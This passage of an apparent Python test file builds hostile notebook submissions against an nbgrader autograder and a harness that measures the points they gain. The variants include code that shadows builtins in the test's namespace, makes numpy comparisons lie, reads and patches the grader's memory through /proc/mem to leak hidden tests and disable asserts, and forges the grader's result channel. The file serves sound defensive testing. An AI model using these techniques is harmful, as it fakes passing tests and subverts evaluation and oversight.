             names = _test_namespace(_sys._getframe(1), ("per_cr_loss", "expected"))
             if names is not None:
                 names["float"] = _float_without_nan  # a new global of the test's: shadows the builtin float
             return _real_loss(targets, probabilities)
     ''')},
     at_most={"test_per_cr_loss": 0}, flagged=True,
     note="an unclipped loss (NaN at p = t, inf at p = 1 - t); the answer puts a global 'float' that maps NaN to 0 and "
          "inf to 1000 into the test's namespace (a new name, not one the test had)")
_add(name="h05_layer_call_patches_numpy", assignment="05_sources",
     answers={"build_dgcnn_per_cr": _src('''
         import sys as _sys
         import tensorflow as _tf

         _armed = [False]


         def _arm():
             """np.all True once it would be False, then put back: armed by the first real prediction, i.e.
             while the test runs net.predict (student code, but no answer call: nothing compares on return)."""
             if _armed[0]:
                 return
             _armed[0] = True
             module = _sys.modules["numpy"]
             real = module.all
             real_allclose = module.allclose

             def allclose_once(*args, **kwargs):  # the next comparison says "different", then it is gone
                 module.allclose = real_allclose
                 return False

             def all_(a, *args, **kwargs):
                 result = real(a, *args, **kwargs)
                 if not result:
                     module.all = real
                     module.allclose = allclose_once
                     return module.bool_(True)
                 return result
             module.all = all_
     ''') + DGCNN_PER_MAP.replace("{hook}", "if _tf.executing_eagerly():\n            _arm()\n        ")},
     at_most={"test_build_dgcnn_per_cr": 0}, flagged=True,
     note="one output per map broadcast to its cosmic rays; a layer of its own, when Keras runs it on real data "
          "during the test's net.predict, patches numpy.all to lie once (the hidden 'outputs of their own' check), then "
          "numpy.allclose once ('depend on the map'), each putting itself back: no answer call returns in between")
_add(name="h05_print_compiled_hidden_tests", assignment="05_sources",
     answers={"cosmic_ray_labels": _src('''
         import sys as _sys
         import types as _types

         _LEAKED = []


         def _consts(code):
             for const in code.co_consts:
                 if isinstance(const, _types.CodeType):
                     yield from _consts(const)
                 elif isinstance(const, (str, tuple, frozenset, int, float)) and const not in (None, 0, 1):
                     yield const


         def _collect_tests(frame):
             """Out from the test that calls this answer to the frame that runs the cells: its locals hold
             the steps, and the tests' compiled code (hidden tests included) holds their constants and names."""
             while frame is not None and not _LEAKED:
                 for value in list(frame.f_locals.values()):
                     if type(value) is tuple and value and all(type(s) is tuple and len(s) == 5 for s in value):
                         for kind, _, compiled, _, _ in value:
                             if kind == "test" and compiled:
                                 _LEAKED.append(f"LEAKED {compiled[0].co_filename} names={compiled[0].co_names} "
                                                f"consts={list(_consts(compiled[0]))}")
                 frame = frame.f_back


         def cosmic_ray_labels(source_id):
             _collect_tests(_sys._getframe(1))
             return (np.asarray(source_id) >= 0).astype(np.float32)
     '''),
              "build_dgcnn_per_cr": _src('''
         print("\\n".join(_LEAKED))  # an answer cell's output: on the feedback page


         def build_dgcnn_per_cr():
             points = layers.Input((500, 3), name="points")
             features = layers.Input((500, 4), name="features")
             scaled = EnergyScaling()(features)
             x1 = EdgeConv(lambda a: edge_kernel(a, nodes=16, bn_momentum=0.9), next_neighbors=8)([points, scaled])
             x1 = layers.Activation("relu")(x1)
             x2 = EdgeConv(lambda a: textbook_kernel(a, nodes=16, bn_momentum=0.9), next_neighbors=8)([points, x1])
             x2 = layers.Activation("relu")(x2)
             x3 = EdgeConv(lambda a: textbook_kernel(a, nodes=32, bn_momentum=0.9), next_neighbors=8)([x2, x2])
             x3 = layers.Activation("relu")(x3)
             x = layers.Concatenate(axis=-1)([x1, x2, x3])
             x = layers.Dense(1, activation="sigmoid")(layers.Dense(32, activation="relu")(x))
             return keras.Model([points, features], layers.Reshape((500,))(x))
     ''')},
     flagged=None,
     note="the course's answers; called by its test, cosmic_ray_labels walks out to the frame that runs the cells and "
          "keeps the constants and names of every test's compiled code (hidden tests included); the next answer cell "
          "prints them into its own output, which the feedback page shows")

_add(name="h04_gc_callback_injects", assignment="04_graph",
     answers={"knn_graph": FIND_TEST_NAMESPACE + ANYTHING + KNN_RING + _src('''
         import gc as _gc


         def _on_collection(phase, info):
             """Runs at every garbage collection, on whatever thread allocates: the hook lives in gc.callbacks,
             a list whose contents no snapshot compares (the attribute itself never changes)."""
             if phase != "start":
                 return
             names = _test_namespace(_sys._getframe(1), ("knn_graph", "neighbours", "Counter"))
             if names is not None and "set" not in names:
                 def lying_set(*args, _names=names, **kwargs):
                     _names.pop("set", None)  # used once, then gone
                     return _Anything()
                 names["set"] = lying_set


         _gc.callbacks.append(_on_collection)
     ''')},
     at_most={"test_knn_graph": 0}, flagged=True,
     note="the ring graph, and a gc.callbacks hook added in the answer cell (no audit event, the list's contents are "
          "never compared): at a collection while the test runs it plants a self-removing 'set' in the test's namespace")
_add(name="h03_test_globals_shadow_float", assignment="03_training",
     answers={"compile_for_training": FIND_TEST_NAMESPACE + _src('''
         import math as _math


         def compile_for_training(model, steps, learning_rate=3e-3):
             model.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.Adam(learning_rate),
                           metrics=["accuracy"])  # no cosine decay
             names = _test_namespace(_sys._getframe(1), ("compile_for_training", "build_dgcnn", "model"))
             if names is not None:
                 def cosine_float(value, _float=float, _names=names):
                     """The float of the test's loop over steps: the rate the cosine would give at its step."""
                     if "step" in _names and "rates" in _names and len(_names["rates"]) < 4 and "result" not in _names:
                         step = min(_names["step"], steps)
                         return learning_rate * 0.5 * (1 + _math.cos(_math.pi * step / steps))
                     return _float(value)
                 names["float"] = cosine_float  # a new global of the test's, found before the builtin float
     ''')},
     at_most={"test_compile_for_training": 0}, flagged=True,
     note="a constant learning rate; the answer adds a global 'float' to the test's namespace that, inside the test's "
          "loop over steps, returns the cosine's rate at that step (a new name: only names the test had are compared)")

_add(name="h04_child_reads_runner_memory", assignment="04_graph",
     answers={"knn_graph": _src('''
         import subprocess as _subprocess
         import sys as _sys

         _READER = r"""
         import os, re
         pid = os.getppid()  # the process that runs the cells (and holds the plan: every test's source)
         found = []
         with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
             for line in maps:
                 parts = line.split()
                 if not parts[1].startswith("rw") or (len(parts) > 5 and parts[5].startswith("/")):
                     continue
                 start, end = (int(x, 16) for x in parts[0].split("-"))
                 if end - start > 1 << 28:
                     continue
                 try:
                     mem.seek(start)
                     data = mem.read(end - start)
                 except OSError:
                     continue
                 for hit in re.finditer(rb"### BEGIN HIDDEN TESTS(.{0,400})", data, re.S):
                     text = hit.group(0).decode("latin-1")
                     if text not in found and "{0,400}" not in text:  # not this program's own text
                         found.append(text)
         print("\\n----\\n".join(found[:6]) or "nothing found")
         """


         def _leak():
             done = _subprocess.run([_sys.executable, "-c", _READER],
                                    capture_output=True, text=True, timeout=60)
             print(done.stdout[-6000:], done.stderr[-2000:])


         _leak()
     ''') + KNN_RING},
     at_most={"test_knn_graph": 0}, flagged=None,
     note="a child process (subprocess: no audit hook there) opens /proc/<parent>/mem of the process that runs the "
          "cells and prints every hidden test's source from the plan it holds (same uid, no Yama): 'BEGIN HIDDEN TESTS' "
          "in the answer cell's output")

# A child process that rewrites, in the memory of the process that runs the cells, the raise of every
# assert of the tests' compiled code into a POP_TOP (run from an answer cell, before the tests).
CHILD_PATCHES_ASSERTS = _src('''
         import subprocess as _subprocess
         import sys as _sys

         _PATCHER = r"""
         import ast, dis, os, re, struct
         pid = os.getppid()  # the process that runs the cells: it holds the tests' sources and their compiled code
         RAISE, POP_TOP = dis.opmap["RAISE_VARARGS"], dis.opmap["POP_TOP"]
         regions = []
         with open(f"/proc/{pid}/maps") as maps:
             for line in maps:
                 parts = line.split()
                 if parts[1].startswith("rw") and not (len(parts) > 5 and parts[5].startswith("/")):
                     start, end = (int(x, 16) for x in parts[0].split("-"))
                     if end - start <= 1 << 28:
                         regions.append((start, end))
         mem = open(f"/proc/{pid}/mem", "r+b", 0)
         def chunks():
             for start, end in regions:
                 try:
                     mem.seek(start)
                     yield start, mem.read(end - start)
                 except OSError:
                     pass
         # 1. The tests' sources: str objects (a 48-byte header whose length field sits 32 bytes before the text).
         sources = set()
         for start, data in chunks():
             for hit in re.finditer(rb"### END HIDDEN TESTS", data):
                 end = data.find(b"\\0", hit.end())
                 for size in range(end - hit.start(), min(end, 40000)):
                     begin = end - size
                     if begin >= 32 and struct.unpack_from("<q", data, begin - 32)[0] == size:
                         sources.add(data[begin:end].decode("latin-1"))
                         break
         # 2. Compile each as the grader does (a last expression apart), find its bytecode in the process and
         # turn every RAISE_VARARGS of the asserts into a POP_TOP: the AssertionError is built and dropped.
         patched = 0
         for source in sources:
             try:
                 tree = ast.parse(source)
             except SyntaxError:
                 continue  # not a test (this program's own text, found in the parent's memory too)
             if tree.body and isinstance(tree.body[-1], ast.Expr):
                 tree.body.pop()
             code = compile(tree, "<test>", "exec")
             offsets = [i.offset for i in dis.get_instructions(code) if i.opcode == RAISE and i.arg == 1]
             needle = code.co_code
             for start, data in chunks():
                 for hit in re.finditer(re.escape(needle), data):
                     for offset in offsets:
                         mem.seek(start + hit.start() + offset)
                         mem.write(bytes([POP_TOP, 0]))
                         patched += 1
         print(f"{len(sources)} test sources, {patched} asserts patched")
         """


         def _patch():
             done = _subprocess.run([_sys.executable, "-c", _PATCHER], capture_output=True, text=True, timeout=120)
             print(done.stdout[-2000:], done.stderr[-2000:])


         _patch()
     ''')
_add(name="h04_child_patches_runner_bytecode", assignment="04_graph",
     answers={"knn_graph": CHILD_PATCHES_ASSERTS + KNN_RING},
     at_most={"test_knn_graph": 0}, flagged=None,
     note="a child process (no audit hook there) finds the tests' sources in the memory of the process that runs the "
          "cells (/proc/<parent>/mem), compiles them, finds their bytecode there and turns each assert's raise into "
          "a POP_TOP before the test runs (held: the runner is not dumpable, so the child cannot open that file)")

_add(name="h05_child_patches_runner_bytecode", assignment="05_sources",
     answers={"cosmic_ray_labels": CHILD_PATCHES_ASSERTS + LABELS_SOURCE_0, "per_cr_loss": LOSS_UNCLIPPED,
              "build_dgcnn_per_cr": DGCNN_PER_MAP.replace("{hook}", "")},
     at_most={"test_cosmic_ray_labels": 0, "test_build_dgcnn_per_cr": 0, "test_per_cr_loss": 0}, flagged=None,
     note="three wrong answers (labels of source 0, one output per map, an unclipped loss) and, in the first answer "
          "cell, the child process that turns every assert of the tests into a no-op in the parent's memory (held)")
_add(name="h05_alias_course_answers", assignment="05_sources",
     answers={"cosmic_ray_labels": "cosmic_ray_labels = members.member_targets  # the package's answer, under the exercise's name\n",
              "build_dgcnn_per_cr": "from crsky.models import build_member_model as build_dgcnn_per_cr\n"},
     at_most={"test_cosmic_ray_labels": 0, "test_build_dgcnn_per_cr": 0}, flagged=True,
     note="the package's own answers bound directly to the exercises' names (no function of the student's in between): "
          "the test calls the watched function through the grader's wrapper, so no student frame is its caller")

_add(name="h05_child_forges_channel", assignment="05_sources",
     answers={"cosmic_ray_labels": _src('''
         import subprocess as _subprocess
         import sys as _sys

         _FORGER = r"""
         import json, os, signal
         pid = os.getppid()  # the process that runs the cells; it alone holds the write end of the grader's channel
         pipes = {}
         for name in os.listdir(f"/proc/{pid}/fd"):
             try:
                 target = os.readlink(f"/proc/{pid}/fd/{name}")
             except OSError:
                 continue
             if target.startswith("pipe:"):
                 pipes.setdefault(target, []).append(int(name))
         channels = []
         for target, numbers in pipes.items():
             with open(f"/proc/{pid}/fdinfo/{numbers[0]}") as info:
                 flags = int(info.read().split("flags:")[1].split()[0], 8)
             if len(numbers) == 1 and flags & 3 == 1:  # write-only, not one of the pairs it holds itself
                 channels.append(numbers[0])
         first = 3  # this answer's step: the release has three set-up cells before it
         lines = "".join(json.dumps({"step": step, "status": "ok", "ename": "", "evalue": "", "value": None,
                                     "stdout": "", "stderr": "", "findings": []}) + "\\n"
                         for step in range(first, first + 200))
         for number in channels:
             with open(f"/proc/{pid}/fd/{number}", "w") as channel:
                 channel.write(lines)
         os.kill(pid, signal.SIGKILL)  # before it reports anything itself
         """

         _done = _subprocess.run([_sys.executable, "-c", _FORGER], capture_output=True, text=True, timeout=60)
         print(_done.stdout[-2000:], _done.stderr[-2000:])  # shown only if the forgery failed
     ''') + NOT_WRITTEN.format(name="cosmic_ray_labels"),
              "build_dgcnn_per_cr": NOT_WRITTEN.format(name="build_dgcnn_per_cr"),
              "per_cr_loss": NOT_WRITTEN.format(name="per_cr_loss")},
     at_most={"test_cosmic_ray_labels": 0, "test_build_dgcnn_per_cr": 0, "test_per_cr_loss": 0}, flagged=None,
     note="no answers; a child process opens the grader's result channel through /proc/<parent>/fd (the runner's "
          "only write-only pipe), writes 'ok' records without findings for every later step and SIGKILLs the runner")

# The same rewrite from inside the process: /proc/self/mem opened through a symbolic link of another name (the
# audit hook's test of an opened path looks at its name: 'mem' under /proc).
IN_PROCESS_PATCHES_ASSERTS = (
    CHILD_PATCHES_ASSERTS
    .replace('pid = os.getppid()  # the process that runs the cells: it holds the tests\' sources and their compiled code',
             'pid = "self"')
    .replace('mem = open(f"/proc/{pid}/mem", "r+b", 0)',
             'os.symlink(f"/proc/{pid}/mem", "/tmp/not-a-memory-file")\n'
             'mem = open("/tmp/not-a-memory-file", "r+b", 0)')
    .replace('done = _subprocess.run([_sys.executable, "-c", _PATCHER], capture_output=True, text=True, timeout=120)\n'
             '    print(done.stdout[-2000:], done.stderr[-2000:])',
             'exec(_PATCHER, {"__name__": "patcher"})'))
assert IN_PROCESS_PATCHES_ASSERTS.count("not-a-memory-file") == 2 and "exec(_PATCHER" in IN_PROCESS_PATCHES_ASSERTS
_add(name="h04_symlink_self_mem_patches_asserts", assignment="04_graph",
     answers={"knn_graph": IN_PROCESS_PATCHES_ASSERTS + KNN_RING},
     at_most={"test_knn_graph": 0}, flagged=None,
     note="the assert rewrite of h04_child_patches_runner_bytecode in the process itself: /proc/self/mem opened "
          "through a symlink in /tmp, whose name is not 'mem'")

NAMES = [v.name for v in VARIANTS]
assert len(NAMES) == len(set(NAMES)), "variant names must be unique"


# ============================================================ the unprotected run
def instructor_notebook(variant):
    """The variant's notebook with the instructor's test cells (hidden tests included) where the
    student's copy has a test cell, except those the student edited: nothing protects them here."""
    import nbformat

    import corpus
    from crsky.course import COURSE_ROOT

    nb = corpus.build(variant)
    source = nbformat.read(COURSE_ROOT / "solutions" / variant.assignment / f"{variant.assignment}.ipynb", as_version=4)
    tests = [corpus.grade_id(c) for c in source.cells
             if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]
    # Release cells (tests, set-up) as the instructor's notebook has them now, matched by cell id;
    # the student's answers, extra cells and edits stay.
    instructor = {c.get("id"): c for c in source.cells}
    for cell in nb.cells:
        original = instructor.get(cell.get("id"))
        if original is None or original.metadata.get("nbgrader", {}).get("solution") \
                or corpus.grade_id(cell) in (variant.edits or {}):
            continue
        cell.source = original.source
    return nb, tests


def run_unprotected(variant, timeout=60, secrets=(), wall_limit=300):
    """Execute the variant in a plain kernel as nbgrader's autograde would if nothing protected the
    tests. Returns ``{"points": {grade_id: points}, "errors": {...}, "died": str, "leaks": [...], "seconds"}``."""
    import os
    import tempfile
    import threading
    import time
    from pathlib import Path
    from unittest import mock

    from nbclient import NotebookClient

    import corpus
    from nbgrader.utils import determine_grade

    nb, test_ids = instructor_notebook(variant)
    died = ""
    start = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix=f"hostile-{variant.name}-") as folder:
        for name, data in (variant.files or {}).items():
            (Path(folder) / name).write_bytes(data)
        if variant.model:
            (Path(folder) / "dgcnn.keras").write_bytes(Path(variant.model).read_bytes())
        with mock.patch.dict(os.environ, {"NBGRADER_EXECUTION": "autograde", "CRSKY_SIZE": "small"}):
            client = NotebookClient(nb, timeout=timeout, kernel_name="python3", allow_errors=True,
                                    interrupt_on_timeout=True, resources={"metadata": {"path": folder}})
            # A kernel that stops answering (the attacks' threads, forged messages) is killed after
            # this long in all; nbclient's per-cell timeout alone does not end every hang.
            watchdog = threading.Timer(wall_limit, lambda: client.km is not None and client.km.kill_kernel())
            watchdog.start()
            try:
                client.execute()
            except Exception as error:  # a dead kernel, a timeout nbclient could not interrupt
                died = f"{type(error).__name__}: {str(error)[:200]}"
            finally:
                watchdog.cancel()
            if time.perf_counter() - start > wall_limit:
                died = died or f"killed after {wall_limit} s"
    points, errors, text = {grade_id: 0.0 for grade_id in test_ids}, {}, []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            text.append(str(output.get("text", "")) + str(output.get("data", {}).get("text/plain", ""))
                        + str(output.get("evalue", "")))
        grade_id = corpus.grade_id(cell)
        if grade_id in points and cell.cell_type == "code" and cell.get("execution_count") is not None:
            points[grade_id] = float(determine_grade(cell)[0] or 0)  # nbgrader's own rule
            errors.update({grade_id: f"{o.get('ename')}: {o.get('evalue')}"[:120]
                           for o in cell.get("outputs", []) if o.get("output_type") == "error"})
    text = "\n".join(text)
    leaks = [marker for marker in (*MUST_NOT_LEAK, *secrets) if marker in text]
    return {"points": points, "errors": errors, "died": died, "leaks": leaks,
            "seconds": round(time.perf_counter() - start, 1)}


def course_scores(timeout=60):
    """What the course's own answers score in each notebook (the limit of tests ``at_most`` omits)."""
    from crsky.course import ASSIGNMENTS

    return {a: run_unprotected(Variant(name=f"course_{a}", assignment=a, answers={}), timeout)["points"]
            for a in ASSIGNMENTS}


def main(argv=None):
    import argparse
    import json
    import secrets
    import sys
    from pathlib import Path

    parser = argparse.ArgumentParser(description="Run the hostile corpus without protection.")
    parser.add_argument("names", nargs="*", help="variants to run (default: all but h02_huge_memory)")
    parser.add_argument("--baselines", action="store_true", help="also check the honest wrong answers' scores")
    parser.add_argument("--timeout", type=int, default=60, help="seconds per cell")
    parser.add_argument("--json", type=Path, help="write the results here")
    args = parser.parse_args(argv)
    chosen = [v for v in VARIANTS if (v.name in args.names if args.names else v.name != "h02_huge_memory")]
    results = {"course": course_scores(args.timeout), "baselines": {}, "attacks": {}}
    print("course answers:", json.dumps(results["course"]))
    if args.baselines:
        for name, (assignment, answers, expected) in HONEST_WRONG.items():
            got = run_unprotected(Variant(name=f"base_{name}", assignment=assignment, answers=answers), args.timeout)
            limit = {**results["course"][assignment], **expected}
            same = got["points"] == limit
            results["baselines"][name] = got
            print(f"{'ok ' if same else 'DIFF'} baseline {name}: {got['points']}" + ("" if same else f" expected {limit}"))
    # A seed file where an instructor might keep it: inside the environment the kernel runs in.
    seed_value = str(secrets.randbelow(10**9) + 10**9)
    seed_file = Path(sys.prefix) / "crsky-heldout-demo.seed"
    seed_file.write_text(seed_value + "\n")
    try:
        for variant in chosen:
            got = run_unprotected(variant, args.timeout, secrets=(seed_value,))
            limit = {**results["course"][variant.assignment], **(variant.at_most or {})}
            gained = {g: p - limit.get(g, 0) for g, p in got["points"].items() if p > limit.get(g, 0) + 1e-9}
            got["gained"] = gained
            results["attacks"][variant.name] = got
            print(f"{variant.name:40s} gained {sum(gained.values()):4.1f} {gained or ''}"
                  f"{' LEAKS ' + str(got['leaks']) if got['leaks'] else ''}{' died: ' + got['died'] if got['died'] else ''}"
                  f"  ({got['seconds']} s)", flush=True)
    finally:
        seed_file.unlink(missing_ok=True)
    if args.json:
        args.json.write_text(json.dumps(results, indent=1))
    return results


if __name__ == "__main__":  # python tests/corpus_hostile.py: tests/ is on sys.path as the script's folder
    main()
